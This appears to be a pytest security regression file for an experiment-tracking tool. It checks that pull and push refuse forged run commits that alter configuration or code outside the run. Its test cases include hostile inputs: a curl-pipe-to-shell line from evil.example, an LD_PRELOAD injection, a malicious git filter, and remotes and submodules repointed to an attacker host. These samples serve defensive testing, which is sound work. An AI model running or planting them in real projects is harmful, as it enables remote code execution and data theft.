"""A pulled run commit changes nothing outside its run (issue 31, item 3).

A run commit's tree is its code commit's tree, plus `runs/` (earlier runs' shards and its own
folder), plus the run's uncommitted changes to code that its manifest records (dirty, and the id
of exactly those changes). An attacker clone commits run commits that also change what a checkout
of the branch would act on (`.dvc/config`'s default remote, `.ledger.yaml`'s job environment,
`.gitattributes`, `.gitmodules`) or the code itself, with git plumbing (test_hostile_remote's
`craft`), and pushes them; a victim clone's `ledger pull` and `ledger push` must refuse each before
its branch moves. Honest shapes keep working: a real dirty run, a first run rebuilt on push.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import git, make_repo, module_home
from test_hostile_remote import _git_bytes, craft, run

from ledger import yamlio
from ledger.storage.runtree import patch_id

DVC_CONFIG = "[core]\n    remote = team\n['remote \"team\"']\n    url = /srv/team-dvc\n"


@dataclass
class World:
    root: Path
    attacker: Path
    victim: Path
    evil: Path  # the bare repository the attacker force-pushes each crafted tip to
    seed: str  # the attacker's honest run
    honest: str  # the attacker's branch tip with only honest runs


def _run_id(repo: Path) -> str:
    return git(repo, "log", "-1", "--format=%(trailers:key=Run-Id,valueonly)", "experiments").strip()


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    root = tmp_path_factory.mktemp("pullworld")
    with module_home(tmp_path_factory, "home-hostile-pull"):
        files = {"README.md": "x\n", "train.py": "print('train')\n", ".ledger.yaml": "branch: experiments\n", ".dvc/config": DVC_CONFIG}
        seed_repo = make_repo(root / "seed", files)
        bare = root / "origin.git"
        git(root, "init", "-q", "--bare", str(bare))
        git(seed_repo, "push", "-q", str(bare), "HEAD:refs/heads/main")
        shutil.rmtree(seed_repo)
        attacker = root / "attacker"
        git(root, "clone", "-q", str(bare), str(attacker))
        (attacker / "train.py").write_text("print('train, edited')\n")  # an honest dirty run
        r = run(attacker, "run", "--", "true")
        assert r.returncode == 0, r.stderr
        git(attacker, "checkout", "-q", "train.py")
        r = run(attacker, "run", "--", "true")  # the clean run the crafted ones copy, at the tip
        assert r.returncode == 0, r.stderr
        seed = _run_id(attacker)
        assert run(attacker, "push").returncode == 0
        victim = root / "victim"
        git(root, "clone", "-q", str(bare), str(victim))
        r = run(victim, "pull")
        assert r.returncode == 0, r.stderr  # both honest runs, the dirty one too
        evil = root / "evil.git"
        git(root, "init", "-q", "--bare", str(evil))
        git(victim, "remote", "add", "evil", str(evil))
        yield World(root, attacker, victim, evil, seed, git(attacker, "rev-parse", "experiments").strip())


def _manifest(w: World, rid: str, **code: object) -> bytes:
    """The seed run's manifest as run `rid`, its `code` section changed by `code`."""
    raw = _git_bytes(w.attacker, "show", f"experiments:runs/{w.seed[-4:-2]}/{w.seed}/manifest.yaml").replace(w.seed.encode(), rid.encode())
    m = yamlio.loads(raw)
    m["code"].update(code)
    return yamlio.dumps(m).encode()


def _forge(w: World, rid: str, outside: dict[str, bytes], **code: object) -> str:
    """A run commit on the honest tip whose tree also holds `outside` (path -> content), pushed to
    the evil remote as its `experiments`; the commit."""
    git(w.attacker, "update-ref", "refs/heads/experiments", w.honest)
    files = {"manifest.yaml": _manifest(w, rid, **code)} if code else {}
    commit = craft(w.attacker, w.seed, rid, files, extra_paths=outside)
    git(w.attacker, "push", "-q", "-f", str(w.evil), "experiments")
    return commit


def _blob(repo: Path, data: bytes) -> str:
    return _git_bytes(repo, "hash-object", "-w", "--stdin", data=data).decode().strip()


def _refused(w: World, verb: str, commit: str, path: str) -> None:
    """`ledger VERB evil` is refused in one line naming the commit and the path; nothing moved."""
    tip = git(w.victim, "rev-parse", "experiments")
    r = run(w.victim, verb, "evil")
    errors = [line for line in r.stderr.splitlines() if line.startswith("ledger: error:")]
    assert r.returncode == 5 and len(errors) == 1 and "Traceback" not in r.stderr, r.stderr
    assert commit[:10] in errors[0] and path in errors[0] and "not moved" in errors[0], errors
    assert git(w.victim, "rev-parse", "experiments") == tip


LD_CONFIG = b"branch: experiments\ncapture:\n  job_env:\n    LD_PRELOAD: /tmp/evil.so\n"
CASES = {
    ".dvc/config": DVC_CONFIG.replace("/srv/team-dvc", "ssh://evil.example/steal").encode(),
    ".ledger.yaml": LD_CONFIG,
    ".gitattributes": b"*.py filter=evil\n",
    ".gitmodules": b'[submodule "x"]\n\tpath = x\n\turl = ssh://evil.example/x.git\n',
    "train.py": b"import os; os.system('curl evil.example | sh')\n",
}


@pytest.mark.parametrize("path", list(CASES))
def test_pull_refuses_a_run_commit_that_changes_a_file_outside_its_run(world: World, path: str) -> None:
    """Was: accepted (only `runs/` was compared); the victim's branch, and any checkout of it,
    took the attacker's remote, job environment, filters, submodule URL or code."""
    commit = _forge(world, f"20260301-00000{list(CASES).index(path)}-a1b2", {path: CASES[path]})
    _refused(world, "pull", commit, path)


def test_a_recorded_uncommitted_change_is_taken_only_as_its_manifest_records_it(world: World) -> None:
    """A dirty run may change code outside its folder, exactly as its manifest's `code.patch`
    says; configuration never, however the manifest reads. Was: every one accepted."""
    code = b"print('mine')\n"
    edit = {"train.py": (_blob(world.attacker, code), 0o100644)}
    # the patch of another change
    commit = _forge(world, "20260302-000001-b1b2", {"train.py": code}, dirty=True, patch=patch_id({"train.py": None}))
    _refused(world, "pull", commit, "train.py")
    commit = _forge(world, "20260302-000002-b1b2", {"train.py": code}, dirty=False, patch=patch_id(edit))  # not dirty
    _refused(world, "pull", commit, "train.py")
    config = {".ledger.yaml": (_blob(world.attacker, LD_CONFIG), 0o100644)}
    commit = _forge(world, "20260302-000003-b1b2", {".ledger.yaml": LD_CONFIG}, dirty=True, patch=patch_id(config))
    _refused(world, "pull", commit, ".ledger.yaml")
    # the shape an honest dirty run has is taken: its change is the code the run saw
    _forge(world, "20260302-000004-b1b2", {"train.py": code}, dirty=True, patch=patch_id(edit))
    r = run(world.victim, "pull", "evil")
    assert r.returncode == 0, r.stderr
    assert git(world.victim, "rev-parse", "experiments").strip() == git(world.attacker, "rev-parse", "experiments").strip()


def test_push_refuses_to_integrate_a_remote_tip_with_such_a_commit(world: World) -> None:
    """`ledger push` integrates the remote's tip when it is behind it: the same check, before the
    local branch moves; nothing is pushed."""
    r = run(world.victim, "run", "--", "true")  # a local run, so the push has something to push
    assert r.returncode == 0, r.stderr
    commit = _forge(world, "20260303-000001-c1c2", {".gitattributes": CASES[".gitattributes"]})
    _refused(world, "push", commit, ".gitattributes")
    assert git(world.evil, "rev-parse", "experiments").strip() == commit


def test_a_first_run_rebuilt_on_push_keeps_its_code_commit_and_is_pulled(tmp_path: Path) -> None:
    """A clone's first run (`[code]`) rebuilt on a teammate's tip keeps its code commit as last
    parent, so a pull can check its tree. Was: rebuilt as `[tip]`, the code commit lost. A run
    rebuilt that way by an earlier ledger is still taken when the clone has its code commit."""
    seed = make_repo(tmp_path / "seed", {"train.py": "print(1)\n"})
    bare = tmp_path / "origin.git"
    git(tmp_path, "init", "-q", "--bare", str(bare))
    git(seed, "push", "-q", str(bare), "HEAD:refs/heads/main")
    a, b = tmp_path / "a", tmp_path / "b"
    for clone in (a, b):
        git(tmp_path, "clone", "-q", str(bare), str(clone))
    code = git(a, "rev-parse", "HEAD").strip()
    for clone in (a, b):  # b's first run is recorded before it has the branch
        assert run(clone, "run", "--", "true").returncode == 0
    assert run(a, "push").returncode == 0
    r = run(b, "push")
    assert r.returncode == 0 and "rebuilt 1 local run" in r.stderr, r.stderr
    parents = git(b, "log", "-1", "--format=%P", "experiments").split()
    assert parents == [git(a, "rev-parse", "experiments").strip(), code]
    r = run(a, "pull")
    assert r.returncode == 0, r.stderr
    # the earlier ledger's shape: the same commit with its previous tip as its only parent
    message = git(b, "log", "-1", "--format=%B", "experiments")
    tree = git(b, "rev-parse", "experiments^{tree}").strip()
    old = _git_bytes(b, "commit-tree", tree, "-p", parents[0], "-m", message).decode().strip()
    git(b, "push", "-q", "-f", str(bare), f"{old}:refs/heads/experiments")
    c = tmp_path / "c"
    git(tmp_path, "clone", "-q", str(bare), str(c))
    r = run(c, "pull")
    assert r.returncode == 0, r.stderr
    assert git(c, "rev-parse", "experiments").strip() == old
    assert json.loads(run(c, "list", "--json").stdout)[0]["id"] == _run_id(b)
